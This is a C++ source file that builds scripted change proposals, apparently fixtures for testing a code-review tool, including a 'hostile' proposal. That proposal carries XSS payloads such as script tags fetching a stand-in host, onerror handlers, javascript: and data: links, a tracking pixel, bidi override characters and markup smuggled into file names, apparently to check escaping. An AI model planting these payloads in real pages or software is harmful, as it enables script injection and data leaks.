#include "desk_scripts.h"

namespace varnock::desk {
namespace {

std::string numbered_lines(int count, const std::string& stem) {
  std::string text;
  for (int i = 1; i <= count; ++i) {
    text += stem;
    text += std::to_string(i);
    text += ";\n";
  }
  return text;
}

Script realistic() {
  std::string head =
      "#include <stdio.h>\n#include <string.h>\n\n"
      "/* Reads one record; gives its length or -1. */\n"
      "static int read_record(FILE *in, char *buffer, size_t size) {\n"
      "  if (fgets(buffer, size, in) == NULL) return -1;\n"
      "  return (int)strlen(buffer);\n}\n\n";
  std::string body = numbered_lines(60, "  total += weight_");
  std::string before = head + "int main(void) {\n  int total = 0;\n" + body +
                       "  printf(\"%d\\n\", total);\n  return 0;\n}\n";
  std::string after = head;
  after.replace(after.find("fgets(buffer, size, in) == NULL"), 31,
                "size == 0 || fgets(buffer, (int)size, in) == NULL");
  after += "int main(void) {\n  long total = 0;\n" + body +
           "  printf(\"%ld\\n\", total);\n  return total > 0 ? 0 : 1;\n}\n";
  return {"src/records.c",
          "",
          before,
          after,
          "## Why\n\nThe total overflowed `int` for large inputs, and a zero-sized buffer "
          "reached `fgets`.\n\n| Change | Effect |\n|---|---|\n"
          "| `long total` | no overflow up to 2^63 |\n| `size == 0` check | no call with an "
          "empty buffer |\n\n- [x] builds\n- [ ] ~~benchmarked~~\n\nSee https://example.org/notes "
          "for the record format.\n",
          {}};
}

Script hostile() {
  const std::string payload =
      "<script>window.__pwned = 1; fetch('http://203.0.113.7/leak')</script>"
      "<img src=x onerror=\"window.__pwned = 2\">"
      "<iframe src=\"http://203.0.113.7/frame\"></iframe>";
  return {"notes/<img src=x onerror=\"window.__pwned=3\">\u200b\u202e.txt",
          "/tmp/elsewhere/<script>window.__pwned=4</script>",
          "first line\nsecond line\n",
          "first line\n" + payload + "\nsecond\u200b line\n",
          "Safe\u200b text.\n\n" + payload +
              "\n\n[click](javascript:window.__pwned=5) [vb](vbscript:msgbox(1)) "
              "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n"
              "![pixel](http://203.0.113.7/pixel.png)\n\n"
              "<a href=\"javascript:window.__pwned=6\">raw link</a>\n",
          {"file changed since the agent read it"}};
}

Script second_server() {
  return {"README.md",
          "",
          "# Demo\n\nOld words here.\n",
          "# Demo\n\nNew words here.\n",
          "Refreshes the *README*.",
          {}};
}

// About 10 MiB of 64-byte lines; every hundredth line changes one word.
Script big() {
  Script script{"data/big.txt", "", "", "", "A large file with **1 %** of its lines changed.", {}};
  const std::string filler(40, 'x');
  for (int i = 0; i < 163840; ++i) {
    const std::string number = std::to_string(1000000 + i);
    const std::string head = std::string("line ") + number;
    script.before += head + " value old " + filler + "\n";
    script.after += head + (i % 100 == 50 ? " value new " : " value old ") + filler + "\n";
  }
  return script;
}

}  // namespace

Script scripted_proposal(const std::string& name) {
  if (name == "realistic") return realistic();
  if (name == "hostile") return hostile();
  if (name == "second-server") return second_server();
  if (name == "big") return big();
  return {std::string("new/") + name + ".txt", "", "", "fresh\n", "A new file.", {}};
}

}  // namespace varnock::desk
